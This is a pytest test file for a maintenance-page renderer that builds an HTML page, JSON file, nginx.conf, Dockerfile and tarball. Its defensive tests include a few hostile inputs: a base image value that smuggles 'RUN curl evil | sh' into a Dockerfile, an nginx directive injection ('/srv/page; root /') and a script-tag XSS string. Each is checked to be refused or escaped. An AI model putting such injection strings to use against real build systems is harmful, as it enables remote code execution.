"""Rendering a notice into the build context: page, JSON twin, nginx.conf, Dockerfile, tarball."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import re
import tarfile
from datetime import UTC, datetime, timedelta, timezone
from importlib.resources import files
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from maint.errors import InvalidInput
from maint.page import (
    SCRIPT_FILE,
    SUPPORTED_LANGS,
    BuildContext,
    PageNotice,
    context_tarball,
    render,
    render_nginx_conf,
)
from maint.page.rules import http_date
from maint.page.texts import TEXTS
from tests.support.page_cases import (
    HOSTILE_REASON,
    SAMPLE_JSON,
    SAMPLE_NOTICE,
    SAMPLE_RETRY_AFTER,
    sample_context,
)

SEOUL = ZoneInfo("Asia/Seoul")
BASE_IMAGE = "nginxinc/nginx-unprivileged:1.27-alpine"
REPO_ROOT = Path(__file__).resolve().parents[2]


def render_with(notice: PageNotice = SAMPLE_NOTICE, **overrides: object) -> BuildContext:
    arguments: dict[str, object] = {"ports": [8080], "zone": SEOUL, "base_image": BASE_IMAGE}
    arguments.update(overrides)
    return render(notice, **arguments)  # type: ignore[arg-type]


def page_of(context: BuildContext) -> str:
    return context.files["index.html"].decode()


# --- the build context -------------------------------------------------------------------


def test_context_holds_exactly_the_five_build_files() -> None:
    assert set(sample_context().files) == {
        "index.html",
        "index.json",
        "nginx.conf",
        "Dockerfile",
        SCRIPT_FILE,
    }
    assert re.fullmatch(r"maint-reload-[0-9a-f]{10}\.js", SCRIPT_FILE)


def test_ports_are_sorted_and_deduplicated() -> None:
    assert render_with(ports=[9090, 8080, 9090]).ports == (8080, 9090)


def test_rendering_is_deterministic() -> None:
    assert render_with().files == render_with().files


@pytest.mark.parametrize(
    "ports",
    [[], [0], [65536], [-1], [True], ["8080"], "8080"],
    ids=["none", "zero", "too-high", "negative", "bool", "string-port", "string"],
)
def test_bad_ports_are_refused(ports: object) -> None:
    with pytest.raises(InvalidInput, match="port"):
        render_with(ports=ports)


def test_highest_and_lowest_ports_are_accepted() -> None:
    assert render_with(ports=[1, 65535]).ports == (1, 65535)


def test_unsupported_language_is_refused() -> None:
    with pytest.raises(InvalidInput, match="language 'fr'"):
        render_with(dataclasses.replace(SAMPLE_NOTICE, lang="fr"))


@pytest.mark.parametrize(
    "end_offset", [timedelta(0), timedelta(minutes=-1)], ids=["equal", "before"]
)
def test_end_not_after_start_is_refused(end_offset: timedelta) -> None:
    notice = dataclasses.replace(SAMPLE_NOTICE, end=SAMPLE_NOTICE.start + end_offset)
    with pytest.raises(InvalidInput, match="must be after start"):
        render_with(notice)


def test_naive_times_are_refused() -> None:
    notice = dataclasses.replace(SAMPLE_NOTICE, start=datetime(2026, 11, 28, 10))
    with pytest.raises(InvalidInput, match="no time zone"):
        render_with(notice)


def test_blank_title_is_refused() -> None:
    with pytest.raises(InvalidInput, match="title"):
        render_with(dataclasses.replace(SAMPLE_NOTICE, title="  "))


@pytest.mark.parametrize(
    "image", ["", "nginx:1\nRUN curl evil | sh", "nginx latest", "-nginx"], ids=repr
)
def test_base_image_that_is_not_an_image_reference_is_refused(image: str) -> None:
    with pytest.raises(InvalidInput, match="base image"):
        render_with(base_image=image)


def test_every_supported_language_has_page_texts() -> None:
    assert set(SUPPORTED_LANGS) == {"ko", "en"}
    assert set(TEXTS) == set(SUPPORTED_LANGS)
    for lang, texts in TEXTS.items():
        assert texts.lang == lang


# --- the HTML page -----------------------------------------------------------------------


def test_page_escapes_markup_in_reason_and_title() -> None:
    page = page_of(sample_context())
    assert "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&amp; &#34;quotes&#34;" in page
    assert "<b>bold</b>" not in page
    assert "정기 점검 &lt;b&gt;bold&lt;/b&gt;" in page


def test_page_declares_language_viewport_and_noindex() -> None:
    page = page_of(sample_context())
    assert page.startswith('<!DOCTYPE html>\n<html lang="ko">')
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    assert '<meta name="robots" content="noindex">' in page
    assert '<meta charset="utf-8">' in page


def test_page_loads_nothing_but_its_own_reload_script() -> None:
    page = page_of(sample_context())
    end = "2026-11-28T13:30:00+00:00"
    script = f'<script src="/{SCRIPT_FILE}" data-end="{end}" defer></script>'
    assert page.count("<script") == 1 and script in page
    without = page.replace(script, "")
    for external in ("http://", "https://", "<link", "<script", "src=", "@import", "url("):
        assert external not in without


def test_page_shows_start_and_end_in_display_zone() -> None:
    page = page_of(sample_context())
    assert '<time datetime="2026-11-28T10:00:00+00:00">2026-11-28 19:00 (KST)</time>' in page
    assert '<time datetime="2026-11-28T13:30:00+00:00">2026-11-28 22:30 (KST)</time>' in page
    assert "Asia/Seoul" in page


def test_page_shows_times_in_another_zone_when_asked() -> None:
    page = page_of(render_with(zone=ZoneInfo("Europe/Berlin")))
    assert "2026-11-28 11:00 (CET)" in page
    assert "Europe/Berlin" in page


def test_korean_notice_has_korean_texts_first_and_an_english_summary() -> None:
    page = page_of(sample_context())
    assert page.index(TEXTS["ko"].heading) < page.index(TEXTS["en"].heading)
    assert '<section class="other" lang="en"' in page
    assert TEXTS["en"].summary in page


def test_english_notice_is_an_english_page_with_a_korean_summary() -> None:
    notice = dataclasses.replace(SAMPLE_NOTICE, lang="en", title="Database upgrade")
    page = page_of(render_with(notice))
    assert '<html lang="en">' in page
    assert "<title>Database upgrade · Scheduled maintenance</title>" in page
    assert '<section class="other" lang="ko"' in page
    assert TEXTS["ko"].summary in page


def test_page_keeps_the_reason_text_including_line_breaks() -> None:
    page = page_of(sample_context())
    assert (
        '<p class="reason">DB upgrade &lt;script&gt;alert(1)&lt;/script&gt; &amp; &#34;quotes&#34;'
        "\n두 번째 줄</p>"
    ) in page


def test_empty_reason_leaves_out_the_reason_paragraph() -> None:
    page = page_of(render_with(dataclasses.replace(SAMPLE_NOTICE, reason="")))
    assert 'class="reason"' not in page


# --- the JSON twin -----------------------------------------------------------------------


def test_json_twin_has_the_documented_fields() -> None:
    assert json.loads(sample_context().files["index.json"]) == SAMPLE_JSON


def test_json_twin_escapes_html_significant_characters() -> None:
    raw = sample_context().files["index.json"].decode()
    assert "<" not in raw and ">" not in raw and "&" not in raw
    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\u0026" in raw
    assert json.loads(raw)["reason"] == HOSTILE_REASON


def test_json_twin_keeps_korean_readable() -> None:
    assert "정기 점검".encode() in sample_context().files["index.json"]


def test_json_twin_gives_times_in_utc_whatever_offset_came_in() -> None:
    plus_nine = timezone(timedelta(hours=9))
    notice = dataclasses.replace(
        SAMPLE_NOTICE,
        start=datetime(2026, 11, 28, 19, 0, tzinfo=plus_nine),
        end=datetime(2026, 11, 28, 22, 30, tzinfo=plus_nine),
    )
    document = json.loads(render_with(notice).files["index.json"])
    assert document["start"] == "2026-11-28T10:00:00+00:00"
    assert document["end"] == "2026-11-28T13:30:00+00:00"
    assert document["retry_after"] == SAMPLE_RETRY_AFTER


# --- Retry-After --------------------------------------------------------------------------


def test_http_date_is_rfc_9110_in_gmt() -> None:
    assert http_date(datetime(2026, 11, 28, 10, 0, tzinfo=UTC)) == "Sat, 28 Nov 2026 10:00:00 GMT"


def test_http_date_rounds_fractions_up_so_clients_never_retry_early() -> None:
    moment = datetime(2026, 11, 28, 9, 59, 59, 1, tzinfo=UTC)
    assert http_date(moment) == "Sat, 28 Nov 2026 10:00:00 GMT"


def test_http_date_converts_other_offsets_to_gmt() -> None:
    moment = datetime(2026, 11, 28, 19, 0, tzinfo=SEOUL)
    assert http_date(moment) == "Sat, 28 Nov 2026 10:00:00 GMT"


# --- nginx.conf ----------------------------------------------------------------------------


def test_image_nginx_conf_is_render_nginx_conf_for_the_image_paths() -> None:
    # The integration tests run render_nginx_conf with a temp docroot; this ties them to the
    # file that actually ships in the image.
    context = render_with(ports=[8080, 9000])
    expected = render_nginx_conf(
        ports=[8080, 9000],
        retry_after=SAMPLE_RETRY_AFTER,
        docroot="/usr/share/nginx/html",
        rundir="/tmp",
    )
    assert context.files["nginx.conf"].decode() == expected


def test_nginx_conf_listens_on_every_port() -> None:
    conf = render_with(ports=[8080, 9000, 80]).files["nginx.conf"].decode()
    assert re.findall(r"^\s*listen (\d+);$", conf, flags=re.MULTILINE) == ["80", "8080", "9000"]


def test_nginx_conf_writes_only_under_the_run_dir_and_to_std_streams() -> None:
    conf = sample_context().files["nginx.conf"].decode()
    assert "pid /tmp/nginx.pid;" in conf
    for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"):
        assert re.search(rf"^\s*{kind}_temp_path /tmp/\w+;$", conf, flags=re.MULTILINE)
    assert "error_log /dev/stderr" in conf
    assert "access_log /dev/stdout;" in conf
    assert "\nuser " not in conf  # a non-root master cannot switch users


def test_nginx_conf_serves_the_page_through_the_uri_form_of_error_page() -> None:
    conf = sample_context().files["nginx.conf"].decode()
    error_pages = re.findall(r"^\s*error_page .*$", conf, flags=re.MULTILINE)
    assert error_pages
    assert all(line.endswith(" $maint_uri;") for line in error_pages), error_pages
    assert "error_page 503 $maint_uri;" in conf  # a named location (@page) would 405 a POST
    assert "server_tokens off;" in conf
    assert f'add_header Retry-After "{SAMPLE_RETRY_AFTER}" always;' in conf


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("retry_after", "tomorrow"),
        ("docroot", "relative/path"),
        ("docroot", "/srv/page; root /"),
        ("rundir", "/tmp/a b"),
    ],
)
def test_nginx_conf_refuses_values_that_would_break_its_syntax(field: str, value: str) -> None:
    arguments = {"retry_after": SAMPLE_RETRY_AFTER, "docroot": "/srv/page", "rundir": "/tmp"}
    arguments[field] = value
    with pytest.raises(InvalidInput):
        render_nginx_conf(ports=[8080], **arguments)


# --- Dockerfile ----------------------------------------------------------------------------


def test_dockerfile_only_copies_files_onto_the_base_image() -> None:
    dockerfile = render_with(ports=[8081, 8080]).files["Dockerfile"].decode()
    instructions = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
    assert instructions == [
        f"FROM {BASE_IMAGE}",
        "COPY nginx.conf /etc/nginx/nginx.conf",
        f"COPY index.html index.json {SCRIPT_FILE} /usr/share/nginx/html/",
        "EXPOSE 8080 8081",
        "USER 101",
    ]


# --- tarball -------------------------------------------------------------------------------


def test_tarball_holds_the_context_files_readable_by_nginx() -> None:
    context = sample_context()
    with tarfile.open(fileobj=io.BytesIO(context_tarball(context)), mode="r:gz") as archive:
        members = archive.getmembers()
        assert [member.name for member in members] == sorted(context.files)
        for member in members:
            assert (member.mode, member.uid, member.gid, member.mtime) == (0o644, 0, 0, 0)
            extracted = archive.extractfile(member)
            assert extracted is not None
            assert extracted.read() == context.files[member.name]


def test_tarball_is_byte_for_byte_reproducible() -> None:
    first = context_tarball(sample_context())
    assert context_tarball(sample_context()) == first
    header = gzip.GzipFile(fileobj=io.BytesIO(first))
    header.read()
    assert header.mtime == 0


def test_tarball_changes_when_the_page_changes() -> None:
    changed = render_with(dataclasses.replace(SAMPLE_NOTICE, reason="other reason"))
    assert context_tarball(changed) != context_tarball(render_with())


# --- where the templates live -----------------------------------------------------------------


def test_templates_ship_inside_the_package() -> None:
    packaged = files("maint.page") / "templates"
    for name in ("page.html.j2", "nginx.conf.j2", "Dockerfile.j2"):
        assert (packaged / name).is_file()


def test_repository_templates_folder_is_the_packaged_one() -> None:
    root_templates = REPO_ROOT / "templates"
    assert root_templates.is_symlink()
    assert root_templates.resolve() == (REPO_ROOT / "maint" / "page" / "templates").resolve()
